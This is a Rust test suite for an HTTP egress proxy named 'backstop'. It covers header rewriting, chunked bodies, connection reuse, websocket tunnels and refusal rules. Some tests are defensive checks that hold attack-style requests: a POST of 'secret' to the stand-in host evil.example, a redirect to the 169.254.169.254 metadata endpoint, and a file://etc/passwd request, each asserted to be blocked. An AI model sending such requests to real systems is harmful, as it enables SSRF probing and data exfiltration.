//! Requests in absolute form: what arrives upstream, what comes back.

use crate::house::{
    House, Upstream, credential, ok, open_session, read_answer, read_head, read_to_end, soon,
};
use backstop_model::event::Fact;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A request for `path` with a credential and these lines.
fn request(house: &House, method: &str, path: &str, lines: &str) -> String {
    format!(
        "{method} http://api.weather.example{path} HTTP/1.1\r\nHost: api.weather.example\r\n{}{lines}\r\n",
        house.credential()
    )
}

async fn with(reply: impl Fn(&str) -> String + Send + Sync + 'static) -> (House, Upstream) {
    let house = House::open().await;
    let upstream = Upstream::http(reply).await;
    house.lead("93.184.0.1:80", upstream.address);
    (house, upstream)
}

#[tokio::test]
async fn a_request_arrives_in_origin_form_without_fields_of_the_hop() {
    let (house, upstream) = with(|_| {
        ok("sunny")
            .replace("\r\n\r\n", "\r\nKeep-Alive: timeout=1\r\nBackstop-Receipt: forged\r\n\r\n")
    })
    .await;
    let lines = "Accept: */*\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nProxy-Connection: keep-alive\r\nTE: gzip\r\n";
    let answer = house.exchange(request(&house, "GET", "/points/1?q=2", lines)).await;
    assert_eq!(
        upstream.text(),
        "GET /points/1?q=2 HTTP/1.1\r\nhost: api.weather.example\r\naccept: */*\r\nvia: 1.1 backstop\r\n\r\n"
    );
    assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
    assert!(answer.ends_with("\r\n\r\nsunny"), "{answer}");
    assert!(answer.contains("via: 1.1 backstop\r\n"), "{answer}");
    assert!(answer.contains("backstop-receipt: rcp_"), "{answer}");
    assert!(!answer.contains("forged") && !answer.contains("keep-alive"), "{answer}");
}

#[tokio::test]
async fn what_is_judged_is_what_is_sent() {
    let (house, upstream) = with(|_| ok("")).await;
    let lines = "Connection: close\r\n";
    house.exchange(request(&house, "GET", "/points/../%73ecret?x=../y", lines)).await;
    let line = upstream.text().lines().next().unwrap().to_owned();
    let permitted = house.recorded(|fact| matches!(fact, Fact::AttemptPermitted { .. })).await;
    match permitted {
        Fact::AttemptPermitted { asked, .. } => {
            assert_eq!(line, format!("GET {}?x=../y HTTP/1.1", asked.path));
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn bodies_go_both_ways_whole_and_in_chunks() {
    let (house, upstream) = with(|_| {
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nsunny\r\n0\r\n\r\n".to_owned()
    })
    .await;
    let mut client = house.client().await;
    let head = request(&house, "POST", "/", "Content-Length: 5\r\n");
    client.write_all(format!("{head}hello").as_bytes()).await.unwrap();
    let answer = read_head(&mut client).await;
    assert!(answer.contains("transfer-encoding: chunked"), "{answer}");
    let mut body = vec![0; 15];
    soon(client.read_exact(&mut body)).await.unwrap();
    assert_eq!(body, b"5\r\nsunny\r\n0\r\n\r\n");
    assert!(upstream.text().ends_with("\r\n\r\nhello"));
    assert!(upstream.text().contains("content-length: 5\r\n"));
    for method in ["POST", "GET"] {
        upstream.got.lock().unwrap().clear();
        let head = request(&house, method, "/", "Transfer-Encoding: chunked\r\nTrailer: X-Sum\r\n");
        let chunks = "3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nX-Sum: 7\r\n\r\n";
        client.write_all(format!("{head}{chunks}").as_bytes()).await.unwrap();
        read_head(&mut client).await;
        soon(client.read_exact(&mut body)).await.unwrap();
        let got = upstream.text();
        assert!(got.contains("transfer-encoding: chunked\r\n"), "{got}");
        assert!(got.ends_with("\r\n5\r\nabcde\r\n0\r\nx-sum: 7\r\n\r\n"), "{got}");
    }
    assert_eq!(upstream.count(), 1, "one connection served them all");
}

#[tokio::test]
async fn a_client_that_waits_for_100_gets_it() {
    let (house, upstream) = with(|_| ok("thanks")).await;
    let mut client = house.client().await;
    let head = request(&house, "PUT", "/x", "Content-Length: 5\r\nExpect: 100-continue\r\n");
    client.write_all(head.as_bytes()).await.unwrap();
    assert_eq!(read_head(&mut client).await, "HTTP/1.1 100 Continue\r\n\r\n");
    client.write_all(b"hello").await.unwrap();
    let (head, body) = read_answer(&mut client).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert_eq!(body, "thanks");
    assert!(!upstream.text().contains("expect"));
}

#[tokio::test]
async fn answers_without_a_body_end_at_their_head() {
    let (house, upstream) = with(|request| {
        if request.starts_with("HEAD") {
            "HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n".to_owned()
        } else if request.contains("/204") {
            "HTTP/1.1 204 No Content\r\n\r\n".to_owned()
        } else {
            "HTTP/1.1 304 Not Modified\r\nETag: \"x\"\r\n\r\n".to_owned()
        }
    })
    .await;
    let mut client = house.client().await;
    for (method, path, status) in
        [("HEAD", "/", "200"), ("GET", "/204", "204"), ("GET", "/304", "304"), ("HEAD", "/", "200")]
    {
        client.write_all(request(&house, method, path, "").as_bytes()).await.unwrap();
        let head = read_head(&mut client).await;
        assert!(head.starts_with(&format!("HTTP/1.1 {status}")), "{head}");
        assert_eq!(method == "HEAD", head.contains("content-length: 500"), "{head}");
    }
    assert_eq!(upstream.count(), 1);
}

#[tokio::test]
async fn an_http_1_0_client_is_served_and_closed() {
    let (house, upstream) = with(|_| {
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nsunny\r\n0\r\n\r\n".to_owned()
    })
    .await;
    let answer = house
        .exchange(format!("GET http://api.weather.example/ HTTP/1.0\r\n{}\r\n", house.credential()))
        .await;
    assert!(answer.starts_with("HTTP/1.0 200"), "{answer}");
    assert!(answer.ends_with("\r\n\r\nsunny"), "{answer}");
    assert!(upstream.text().starts_with("GET / HTTP/1.1\r\n"), "{}", upstream.text());
    assert!(upstream.text().contains("via: 1.0 backstop\r\n"));
}

#[tokio::test]
async fn a_redirect_passes_back_untouched() {
    let (house, upstream) = with(|_| {
        "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\nContent-Length: 0\r\n\r\n".to_owned()
    })
    .await;
    let mut client = house.client().await;
    client.write_all(request(&house, "GET", "/", "").as_bytes()).await.unwrap();
    let (head, _) = read_answer(&mut client).await;
    assert!(head.starts_with("HTTP/1.1 302"), "{head}");
    assert!(head.contains("location: http://169.254.169.254/latest/\r\n"), "{head}");
    let next = format!(
        "GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n{}\r\n",
        house.credential()
    );
    client.write_all(next.as_bytes()).await.unwrap();
    let (head, body) = read_answer(&mut client).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(body.contains("\"control\":\"ssrf."), "{body}");
    assert_eq!((upstream.count(), house.tried().len()), (1, 1));
}

#[tokio::test]
async fn an_undeclared_host_is_refused_and_the_connection_lives_on() {
    let (house, upstream) = with(|_| ok("sunny")).await;
    let mut client = house.client().await;
    let evil = format!(
        "POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n{}Content-Length: 6\r\n\r\nsecret",
        house.credential()
    );
    client.write_all(evil.as_bytes()).await.unwrap();
    let (head, body) = read_answer(&mut client).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(body.contains("\"control\":\"egress.tenant\",\"host\":\"evil.example\""), "{body}");
    client.write_all(request(&house, "GET", "/", "").as_bytes()).await.unwrap();
    assert_eq!(read_answer(&mut client).await.1, "sunny");
    assert_eq!(house.tried().len(), 1);
    assert!(!upstream.text().contains("secret"));
}

#[tokio::test]
async fn other_schemes_are_refused() {
    let house = House::open().await;
    for target in
        ["ftp://api.weather.example/", "gopher://api.weather.example/", "file://etc/passwd"]
    {
        let place = target.split('/').nth(2).unwrap();
        let head = format!("GET {target} HTTP/1.1\r\nHost: {place}\r\nConnection: close\r\n");
        let answer = house.exchange(format!("{head}{}\r\n", house.credential())).await;
        assert!(answer.contains("\"control\":\"ssrf.scheme\""), "{target}: {answer}");
    }
    assert!(house.tried().is_empty());
}

#[tokio::test]
async fn upstream_connections_are_reused_by_their_own_session_only() {
    let (house, upstream) = with(|_| ok("sunny")).await;
    let mut client = house.client().await;
    for _ in 0..3 {
        client.write_all(request(&house, "GET", "/", "").as_bytes()).await.unwrap();
        assert_eq!(read_answer(&mut client).await.1, "sunny");
    }
    assert_eq!(upstream.count(), 1);
    let mut again = house.client().await;
    again.write_all(request(&house, "GET", "/", "").as_bytes()).await.unwrap();
    assert_eq!(read_answer(&mut again).await.1, "sunny");
    assert_eq!(upstream.count(), 1, "another connection of the same session rides on it");
    let other = open_session(&house.gate, &house.operator).await;
    let head = "GET http://api.weather.example/ HTTP/1.1\r\nHost: api.weather.example\r\n";
    client.write_all(format!("{head}{}\r\n", credential(&other)).as_bytes()).await.unwrap();
    assert_eq!(read_answer(&mut client).await.1, "sunny");
    assert_eq!(upstream.count(), 2, "another session does not");
}

#[tokio::test]
async fn a_connection_that_died_idle_is_tried_once_more() {
    let (house, upstream) =
        with(|_| ok("sunny").replace("\r\n\r\n", "\r\nX-Then: close\r\n\r\n")).await;
    let mut client = house.client().await;
    for count in 1..4 {
        client.write_all(request(&house, "GET", "/", "").as_bytes()).await.unwrap();
        let (head, body) = read_answer(&mut client).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        assert_eq!(body, "sunny");
        assert_eq!(upstream.count(), count);
    }
}

#[tokio::test]
async fn an_answer_that_is_not_http_is_502() {
    for reply in [
        "SSH-2.0-x\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        "HTTP/1.1 200 OK\r\nX: \0\r\n\r\n",
    ] {
        let (house, _upstream) = with(move |_| reply.to_owned()).await;
        let answer = house.exchange(request(&house, "GET", "/", "Connection: close\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 502"), "{answer}");
        assert!(answer.contains("\"control\":\"fault\""), "{answer}");
        assert!(answer.contains("backstop-receipt: rcp_"), "{answer}");
    }
}

#[tokio::test]
async fn an_upstream_that_breaks_off_is_502_and_not_asked_twice() {
    let (house, upstream) = with(|_| String::new()).await;
    let lines = "Connection: close\r\nContent-Length: 1\r\n";
    let answer = house.exchange(request(&house, "POST", "/", lines) + "x").await;
    assert!(answer.starts_with("HTTP/1.1 502"), "{answer}");
    assert_eq!(upstream.count(), 1);
}

#[tokio::test]
async fn an_upstream_that_is_down_is_502() {
    let house = House::open().await;
    let head = "GET http://down.example/ HTTP/1.1\r\nHost: down.example\r\nConnection: close\r\n";
    let answer = house.exchange(format!("{head}{}\r\n", house.credential())).await;
    assert!(answer.starts_with("HTTP/1.1 502"), "{answer}");
    assert!(answer.contains("\"control\":\"upstream.reach\""), "{answer}");
}

#[tokio::test]
async fn a_websocket_becomes_a_tunnel_under_the_same_permit() {
    let upstream = Upstream::start(|mut stream, got| async move {
        let head = read_head(&mut stream).await;
        got.lock().unwrap().extend_from_slice(head.as_bytes());
        let answer = "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: x\r\n\r\nfirst";
        stream.write_all(answer.as_bytes()).await.unwrap();
        let mut part = [0; 100];
        while let Ok(count @ 1..) = stream.read(&mut part).await {
            stream.write_all(&part[..count]).await.unwrap();
        }
    })
    .await;
    let house = House::open().await;
    house.lead("93.184.0.1:80", upstream.address);
    let mut client = house.client().await;
    let lines = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n";
    client.write_all(request(&house, "GET", "/ws", lines).as_bytes()).await.unwrap();
    let head = read_head(&mut client).await;
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    assert!(
        head.contains("upgrade: websocket\r\n") && head.contains("sec-websocket-accept: x\r\n"),
        "{head}"
    );
    assert!(upstream.text().contains("connection: upgrade\r\n"), "{}", upstream.text());
    let mut back = [0; 5];
    soon(client.read_exact(&mut back)).await.unwrap();
    assert_eq!(&back, b"first");
    client.write_all(b"\x81\x05\n\0\r\n:").await.unwrap();
    let mut back = [0; 7];
    soon(client.read_exact(&mut back)).await.unwrap();
    assert_eq!(&back, b"\x81\x05\n\0\r\n:");
    let began = Instant::now();
    house.gate.control().close_session(&house.operator, &house.session.id).await.unwrap();
    assert_eq!(read_to_end(&mut client).await, "");
    assert!(began.elapsed() < Duration::from_secs(1));
}

#[tokio::test]
async fn another_upgrade_is_not_passed_on() {
    let (house, upstream) = with(|_| ok("plain")).await;
    let lines =
        "Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: x\r\n";
    let answer = house.exchange(request(&house, "GET", "/", lines)).await;
    assert!(answer.ends_with("plain"), "{answer}");
    let got = upstream.text();
    assert!(!got.contains("upgrade") && !got.contains("http2-settings"), "{got}");
}
